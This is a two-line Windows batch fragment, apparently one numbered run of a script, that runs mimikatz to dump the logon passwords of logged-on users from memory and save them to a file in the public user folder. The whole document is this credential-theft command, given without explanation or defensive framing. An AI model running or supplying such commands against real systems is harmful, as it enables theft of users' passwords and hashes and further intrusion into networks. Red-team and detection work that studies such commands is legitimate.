REM run 5187 v3
mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Users\Public\m.txt
